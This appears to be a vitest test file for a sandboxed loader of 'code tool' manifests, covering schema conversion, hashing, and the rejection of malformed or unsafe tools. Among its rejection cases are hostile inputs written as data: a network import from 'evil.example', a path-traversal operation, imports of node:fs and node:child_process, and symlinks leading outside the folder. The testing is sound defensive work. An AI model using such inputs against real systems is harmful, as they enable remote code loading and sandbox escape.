// What a code tool says of itself: read out of a worker, and held to what any tool file is held to.
import { symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect } from "vitest";
import { loadCatalog, readManifests } from "../../../src/catalog/load.ts";
import type { CatalogOptions } from "../../../src/catalog/load.ts";
import { openOwnSandbox, toolText } from "../../setup/code.ts";
import type { OwnSandbox, ToolText } from "../../setup/code.ts";
import { catalogFolder, problemsOf } from "../../setup/minimal.ts";
import { verifies } from "../../verifies.ts";

let own: OwnSandbox;

beforeAll(async () => {
  own = await openOwnSandbox();
});

afterAll(() => own.close());

async function optionsFor(folder: string): Promise<CatalogOptions> {
  return { drafts: false, manifests: await readManifests(folder, own.sandbox.readManifest) };
}

async function problemsIn(folder: string): Promise<string[]> {
  const options = await optionsFor(folder);
  const problems = problemsOf(() => loadCatalog(folder, options));
  return problems.map(({ pointer, message }) => `${pointer}: ${message}`);
}

function folderWith(text: string, name = "item_sum"): string {
  return catalogFolder({ [`${name}.tool.ts`]: text });
}

async function loaded(text: ToolText) {
  const folder = folderWith(toolText("item_sum", text));
  const tool = loadCatalog(folder, await optionsFor(folder)).tools.get("item_sum");
  if (tool?.kind !== "code") throw new Error("no such tool");
  return tool;
}

describe("a code tool's manifest", () => {
  verifies(
    "sandbox.manifest",
    "types, schemas, uses and limits become a tool like any other",
    async () => {
      const tool = await loaded({
        change: {
          input:
            "z.object({ id: z.int().min(1), q: z.string().max(9).optional().describe('Text') })",
          output: `z.object({
            n: z.int(),
            who: z.string().nullable(),
            rows: z.array(z.object({ day: z.iso.date() })),
          })`,
          target: '"item:{id}"',
        },
        run: "return { n: 1, who: null, rows: [] };",
      });
      expect(tool.input_schema).toEqual({
        type: "object",
        properties: {
          id: { type: "integer", minimum: 1 },
          q: { type: "string", maxLength: 9, description: "Text" },
        },
        required: ["id"],
        additionalProperties: false,
      });
      expect(tool.output_schema).toEqual({
        type: "object",
        properties: {
          n: { type: "integer" },
          who: { type: ["string", "null"] },
          rows: {
            type: "array",
            maxItems: 1000,
            items: {
              type: "object",
              properties: { day: { type: "string", format: "date" } },
              required: ["day"],
              additionalProperties: false,
            },
          },
        },
        required: ["n", "who", "rows"],
        additionalProperties: false,
      });
      expect([...tool.uses]).toEqual(["GET /items", "GET /items/{id}/card"]);
      expect(tool).toMatchObject({
        timeout_ms: 3000,
        requests_max: 5,
        response_bytes_max: 262_144,
      });
      expect(tool.target).toEqual({ kind: "item", argument: "id" });
      expect(Object.fromEntries([...tool.inputs].map(([n, i]) => [n, i.ledger]))).toEqual({
        id: "plain",
        q: "sealed",
      });
    },
  );

  verifies("sandbox.manifest", "another source is another tool", async () => {
    const first = await loaded({ run: 'return { value: "a" };' });
    const second = await loaded({ run: 'return { value: "b" };' });
    expect(first.hash).not.toBe(second.hash);
    expect((await loaded({ run: 'return { value: "a" };' })).hash).toBe(first.hash);
  });

  const WRONG: Readonly<Record<string, readonly [ToolText, RegExp]>> = {
    "no effects": [{ change: { effects: undefined } }, /^\/effects: /],
    "an unknown key": [{ change: { secret: '"x"' } }, /Unrecognized key.*secret/],
    "text without a bound": [{ change: { input: "z.object({ q: z.string() })" } }, /maxLength/],
    "a rule that nobody enforces": [
      { change: { input: "z.object({ q: z.tuple([z.int(), z.int()]) })" } },
      /Unrecognized key.*prefixItems/,
    ],
    "a pattern that needs to go back": [
      { change: { input: "z.object({ q: z.string().max(5).regex(/(?=a)/) })" } },
      /^\/input\/q\/pattern: .*RE2/,
    ],
    "a reference": [
      { change: { input: 'z.object({ q: z.int().meta({ $ref: "#/$defs/A" }) })' } },
      /^\/input\/q\/\$ref: there is no such definition/,
    ],
    "an operation that walks": [
      { change: { uses: '["GET /items/../admin"]' } },
      /name another one/,
    ],
    "a URL": [{ change: { uses: '["GET https://evil.example/"]' } }, /METHOD \/path/],
    "a read that writes": [{ change: { uses: '["DELETE /items"]' } }, /readOnly/],
    "a target that is no input": [{ change: { target: '"item:{nobody}"' } }, /^\/target/],
    "a mark that is none": [
      { change: { input: "z.object({ q: z.int().meta({ ledger: 'open' }) })" } },
      /no such mark/,
    ],
    "a field's mark that is none": [
      { change: { output: `z.object({ "a/b": z.int().meta({ ledger: "open" }) })` } },
      /^\/output\/a~1b\/ledger: no such mark/,
    ],
    "another tool's name": [{ change: { name: '"item_other"' } }, /is not the file's name/],
    "no scopes": [{ change: { scopes: "[]" } }, /^\/scopes/],
  };
  for (const [what, [text, says]] of Object.entries(WRONG)) {
    verifies("sandbox.manifest", `${what} does not load`, async () => {
      const said = await problemsIn(folderWith(toolText("item_sum", text)));
      expect(said.join("\n")).toMatch(says);
    });
  }

  const HEADS: Readonly<Record<string, readonly [string, RegExp]>> = {
    "a syntax error": ["const = 1;", /no TypeScript that Node can run/],
    "an enum": ["enum A { B }", /no TypeScript that Node can run/],
    "a network import": [
      'import x from "https://evil.example/x.js"; x;',
      /doorless\/tool and nothing/,
    ],
    "a module of Node": [
      'import { readFileSync } from "node:fs"; readFileSync;',
      /nothing else, not node:fs/,
    ],
    "a package": ['import "zod";', /nothing else, not zod/],
    "a file beside it": ['import "./other.ts";', /nothing else, not .\/other.ts/],
    "a module, later": ['await import("node:child_process");', /nothing else/],
    "a throw at the top": ['throw new Error("no luck");', /Error: no luck/],
    "an endless loop at the top": ["for (;;) {}", /its top level does not end/],
    "an await without an end": [
      "await new Promise(() => undefined);",
      /its top level does not end/,
    ],
  };
  for (const [what, [head, says]] of Object.entries(HEADS)) {
    verifies("sandbox.manifest", `${what} does not load`, async () => {
      const said = await problemsIn(folderWith(toolText("item_sum", { head })));
      expect(said.join("\n")).toMatch(says);
    });
  }

  verifies("sandbox.manifest", "a file without defineTool is no tool", async () => {
    const forged = 'export default { manifest: { name: "item_sum" }, call() {} };';
    expect(await problemsIn(folderWith(forged))).toEqual([
      ": TypeError: has no `export default defineTool({ ... })`",
    ]);
  });

  verifies("sandbox.manifest", "a symbolic link in the tools folder stops the load", async () => {
    const folder = folderWith(toolText("item_sum"));
    const outside = folderWith(toolText("item_link"), "item_link");
    symlinkSync(
      join(outside, "shop", "item_link.tool.ts"),
      join(folder, "shop", "item_link.tool.ts"),
    );
    symlinkSync(join(outside, "shop"), join(folder, "linked"));
    const said = await problemsIn(folder);
    expect(said.toSorted()).toEqual([": is a symbolic link", ": is no plain file"]);
  });

  verifies(
    "sandbox.manifest",
    "a draft is only a name, and a file that grew too large is none",
    async () => {
      const folder = folderWith(toolText("item_sum", { change: { status: '"draft"' } }));
      const catalog = loadCatalog(folder, await optionsFor(folder));
      expect([catalog.tools.size, catalog.drafts]).toEqual([0, ["item_sum"]]);
      writeFileSync(join(folder, "shop", "item_big.tool.ts"), "/".repeat(300_000));
      expect(await problemsIn(folder)).toEqual([": larger than 262144 bytes"]);
    },
  );

  verifies(
    "tools.lock",
    "another line of code is another tool; another line end is none",
    async () => {
      const hashOf = async (text: string): Promise<string | undefined> => {
        const folder = folderWith(text);
        return loadCatalog(folder, await optionsFor(folder)).tools.get("item_sum")?.hash;
      };
      const text = toolText("item_sum");
      const before = await hashOf(text);
      expect(before).toMatch(/^sha256:/);
      expect(await hashOf(text.replaceAll("\n", "\r\n"))).toBe(before);
      expect(await hashOf(toolText("item_sum", { run: 'return { value: "other" };' }))).not.toBe(
        before,
      );
      expect(await hashOf(toolText("item_sum", { change: { title: '"Other"' } }))).not.toBe(before);
    },
  );

  verifies("sandbox.manifest", "without a level for them, code tools are in no catalogue", () => {
    const catalog = loadCatalog(folderWith(toolText("item_sum")));
    expect([...catalog.tools.keys()]).toEqual([]);
    expect([...catalog.absent.keys()].toSorted()).toEqual(["item_sum", "run_code"]);
  });
});
